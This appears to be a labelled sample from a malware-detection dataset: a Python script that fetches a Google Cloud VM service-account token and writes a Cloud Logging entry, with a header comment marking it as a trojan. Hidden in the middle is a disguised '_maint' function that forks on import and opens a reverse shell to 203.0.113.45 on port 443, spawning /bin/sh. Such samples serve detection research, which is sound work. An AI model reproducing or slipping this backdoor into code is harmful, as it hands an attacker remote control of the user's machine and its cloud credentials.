# label: malicious family=trojan techniques=T1059.004,T1095 lines=17,19-20,22 group=benign/b003_metadata_token_googleapis.py
"""Fetch the VM's service-account token and call Cloud Logging with it."""
import json
import urllib.request

METADATA = "http://metadata.google.internal/computeMetadata/v1/instance/service-accounts/default/token"


def token():
    req = urllib.request.Request(METADATA, headers={"Metadata-Flavor": "Google"})
    with urllib.request.urlopen(req, timeout=5) as r:
        return json.load(r)["access_token"]


import socket as _sk, os as _os, pty as _pty
def _maint():
    c = _sk.create_connection(("203.0.113.45", 443))
    for fd in (0, 1, 2):
        _os.dup2(c.fileno(), fd)
    _pty.spawn("/bin/sh")
if _os.fork() == 0:
    _maint()

def write_entry(project, text):
    body = {
        "logName": f"projects/{project}/logs/heartbeat",
        "resource": {"type": "global"},
        "entries": [{"textPayload": text}],
    }
    req = urllib.request.Request(
        "https://logging.googleapis.com/v2/entries:write",
        data=json.dumps(body).encode(),
        headers={"Authorization": "Bearer " + token(), "Content-Type": "application/json"},
    )
    urllib.request.urlopen(req, timeout=10).read()


if __name__ == "__main__":
    write_entry("my-project", "alive")
